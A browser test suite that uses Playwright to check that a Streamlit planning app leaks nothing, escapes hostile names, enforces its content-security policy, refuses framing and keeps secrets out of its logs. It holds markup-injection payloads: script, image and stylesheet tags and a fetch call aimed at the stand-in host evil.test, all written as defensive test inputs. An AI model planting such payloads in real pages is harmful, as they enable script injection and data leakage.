"""Nothing leaves and nothing is refused: every page under the content-security policy, in a real Chromium."""

import json
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.hosting import ROOT, served, streamlit, uvicorn
from tests.serving import BUSY_SECONDS
from workbench import samples

pytestmark = pytest.mark.browser

# How many pictures each page draws at least.
PICTURES = {"": 0, "tree": 0, "whatif": 1, "sensitivity": 3, "deadlines": 3, "focus": 3}
HOSTILE = (
    "![p](http://evil.test/a.png) [x](http://evil.test) <img src=http://evil.test/b.png>"
    "<link rel=stylesheet href=http://evil.test/c.css><script src=http://evil.test/d.js></script>"
)
TELL = """() => document.addEventListener('securitypolicyviolation', (event) =>
    console.error(`refused: ${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`))"""


APP = """
import streamlit as st
from workbench import logs, serving

logs.begin()
app = st.App("broken.py", on_script_error=serving.script_error)
"""
BROKEN = """
import streamlit as st

def fails():
    {}["a-plan-nobody-may-read"]

@st.fragment
def part():
    if st.button("again"):
        fails()

part()
if "whole" in st.query_params:
    try:
        fails()
    except KeyError as error:
        raise ValueError("a-plan-nobody-may-read") from error
"""


class Watched:
    """A page, what it asked for, what the policy refused it, and what broke."""

    def __init__(self, browser: Browser, address: str, language: str) -> None:
        self.context = browser.new_context(
            locale={"ja": "ja-JP", "en": "en-US"}[language], viewport={"width": 1440, "height": 900}
        )
        self.address, self.asked, self.refused, self.broken = address, [], [], []
        self.page = self.context.new_page()
        self.page.add_init_script(f"({TELL})()")
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("websocket", lambda socket: self.asked.append(socket.url))
        self.page.on("pageerror", lambda error: self.broken.append(str(error)))
        self.page.on("console", self._hear)

    def _hear(self, message) -> None:
        if message.text.startswith("refused: ") or "Content Security Policy" in message.text:
            self.refused.append(message.text)
        elif "Component Error" in message.text:  # a component that could not be loaded tells nobody else
            self.broken.append(message.text)

    @property
    def outside(self) -> list[str]:
        ours = (self.address + "/", self.address.replace("http", "ws") + "/", "data:", f"blob:{self.address}/")
        return [url for url in self.asked if not url.startswith(ours)]

    def open(self, name: str) -> Page:
        self.page.goto(f"{self.address}/{name}")
        self.page.locator(".st-key-answer").first.wait_for()
        self.page.locator("[data-testid=stStatusWidget]").wait_for(state="detached")
        return self.page


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    log = tmp_path_factory.mktemp("outside") / "log"
    with served(uvicorn(), log) as address:
        yield address, log


@pytest.fixture(params=["ja", pytest.param("en", marks=pytest.mark.long)])
def watched(request: pytest.FixtureRequest, browser: Browser, home: tuple[str, Path]) -> Iterator[Watched]:
    watching = Watched(browser, home[0], request.param)
    yield watching
    watching.context.close()


def test_every_page_draws_its_pictures_and_nothing_leaves_or_is_refused(watched: Watched) -> None:
    for name, least in PICTURES.items():
        page = watched.open(name)
        _drawn(page, least)
        if name == "tree":
            expect(page.get_by_role("treeitem").first).to_be_visible()

    assert watched.outside == []
    assert watched.refused == watched.broken == []
    assert any(url.startswith("ws://") for url in watched.asked)  # the recorder sees the socket too
    assert any("/static/js/" in url for url in watched.asked)


def test_names_that_are_pictures_links_and_markup_fetch_nothing_and_stay_text(watched: Watched, tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(_hostile_plan(), encoding="utf-8")
    page = watched.open("")
    page.locator(".st-key-open_file input[type=file]").set_input_files(hostile)
    expect(page.locator(".st-key-header")).to_contain_text("evil.test/a.png")

    for name, least in PICTURES.items():
        page = watched.open(name)
        _drawn(page, least)
        assert page.locator("[src*='evil.test'], [href*='evil.test'], image[*|href*='evil.test']").count() == 0, name

    assert watched.outside == []
    assert watched.refused == watched.broken == []


def test_the_board_can_be_edited_and_taken_away_as_a_picture(watched: Watched, tmp_path: Path) -> None:
    page = watched.open("tree")
    answer = page.locator(".st-key-answer").first
    before = answer.inner_text()

    lever = page.get_by_role("treeitem").get_by_role("slider").first
    lever.focus()
    for _ in range(5):
        page.keyboard.press("ArrowRight")
    expect(answer).not_to_have_text(before)
    for ending in ("SVG", "PNG"):
        with page.expect_download() as download:
            page.get_by_role("button", name=ending).click()
        download.value.save_as(tmp_path / ending)
        assert (tmp_path / ending).stat().st_size > 5_000
    with page.expect_download() as download:
        page.locator(".st-key-header_save button").click()

    assert download.value.suggested_filename.endswith(".yaml")
    assert watched.outside == []
    assert watched.refused == watched.broken == []


def test_a_script_or_a_picture_that_got_in_would_be_stopped(watched: Watched) -> None:
    """The policy itself, should escaping ever fail: markup put into the page neither runs nor fetches."""
    page = watched.open("")

    page.evaluate("""() => {
        const put = (name, facts) => document.body.appendChild(Object.assign(document.createElement(name), facts));
        put('script', { textContent: 'window.ran = true' });
        put('img', { src: 'http://evil.test/pixel.png' });
        put('div', { innerHTML: '<p onclick="window.ran = true" id="trap">x</p>' });
        document.getElementById('trap').click();
        for (const run of ['eval', 'Function']) // later: what a debugger is told to run may use them
            setTimeout(() => { try { window[run]('window.ran = true')(); } catch { /* refused */ } });
        return fetch('http://evil.test/').catch(() => null);
    }""")
    tried = (
        "script-src-elem inline", "script-src-attr", "script-src eval",
        "img-src http://evil.test/pixel.png", "connect-src http://evil.test/",
    )  # fmt: skip
    ends = time.monotonic() + BUSY_SECONDS
    while not all(_is_refused(watched, line) for line in tried) and time.monotonic() < ends:
        page.wait_for_timeout(50)

    assert [line for line in tried if not _is_refused(watched, line)] == []
    assert page.evaluate("() => window.ran") is None


def _is_refused(watched: Watched, tried: str) -> bool:
    return any(line.startswith(f"refused: {tried}") for line in watched.refused)


def test_no_page_can_show_the_app_in_a_frame_not_even_one_of_its_own_address(
    browser: Browser, home: tuple[str, Path]
) -> None:
    context = browser.new_context()
    page = context.new_page()
    around = f"<iframe src='{home[0]}/'></iframe>"
    page.route(f"{home[0]}/around", lambda route: route.fulfill(content_type="text/html", body=around))
    page.goto(f"{home[0]}/around")
    page.wait_for_timeout(3_000)

    shown = page.frames[1].evaluate("() => document.querySelectorAll('#root').length")
    context.close()

    assert shown == 0


def test_the_log_has_no_secret_of_the_address_and_no_session(browser: Browser, home: tuple[str, Path]) -> None:
    address, log = home
    secret = "Zb7q-a-plan-nobody-may-read"
    context = browser.new_context()
    page, uploads = context.new_page(), []
    page.on("request", lambda request: uploads.append(request.url) if "upload_file" in request.url else None)
    page.goto(f"{address}/?share={secret}#{secret}")
    page.locator(".st-key-answer").wait_for()
    contents = samples.sample_plan().to_yaml().encode()
    with page.expect_response(lambda response: "upload_file" in response.url):
        page.locator(".st-key-open_file input[type=file]").set_input_files(
            {"name": f"{secret}.yaml", "mimeType": "application/yaml", "buffer": contents}
        )
    expect(page.get_by_test_id("stToast")).to_be_visible()
    cookies = {cookie["name"]: cookie["value"] for cookie in context.cookies()}
    context.close()

    written = log.read_text()
    session, file = uploads[0].split("/")[-2:]
    assert len(session) > 30
    assert "/_stcore/upload_file/..." in {json.loads(line).get("path") for line in written.splitlines()}
    for hidden in (secret, session, file, cookies["gyakusan_browser"], cookies["_streamlit_xsrf"]):
        assert hidden not in written


def test_an_error_is_in_the_log_by_type_and_place_and_not_in_its_own_words(browser: Browser, tmp_path: Path) -> None:
    """A script that breaks, and a part of one that breaks when it runs again by itself."""
    (tmp_path / "app.py").write_text(APP)
    (tmp_path / "broken.py").write_text(BROKEN)
    log, home = tmp_path / "log", {"PYTHONPATH": str(ROOT)}
    context = browser.new_context(locale="en-US")
    page = context.new_page()

    with served(streamlit("--server.address=127.0.0.1"), log, folder=tmp_path, environment=home) as address:
        page.goto(address)
        page.get_by_role("button", name="again").click()
        expect(page.locator(".stMain")).to_contain_text("Your plan is safe")
        page.goto(f"{address}/?whole=1")
        expect(page.locator(".stMain")).to_contain_text("Your plan is safe")
        context.close()

    lines = [json.loads(line) for line in log.read_text().splitlines()]
    errors = [line for line in lines if line["event"] == "script_error"]
    assert [error["type"] for error in errors] == ["KeyError", "ValueError < KeyError"]
    assert all(re.search(r"broken\.py:\d+$", error["at"][-1]) for error in errors)
    assert "nobody-may-read" not in log.read_text()


def _drawn(page: Page, least: int) -> None:
    """Wait until so many pictures are drawn, each with marks."""
    pictures = page.locator(".stVegaLiteChart:visible")
    for at in range(least):
        pictures.nth(at).scroll_into_view_if_needed()
        expect(pictures.nth(at).locator("svg .marks, canvas.marks, svg path").first).to_be_attached()


def _hostile_plan() -> str:
    plan = samples.sample_plan()
    changes = {"name.ja": HOSTILE, "name.en": HOSTILE}
    for part in ("metrics", "ksfs", "teams"):
        for key in list(getattr(plan, part))[:40]:
            changes |= {f"{part}.{key}.name.{language}": f"{key} {HOSTILE}" for language in ("ja", "en")}
    return plan.replace(changes).to_yaml()
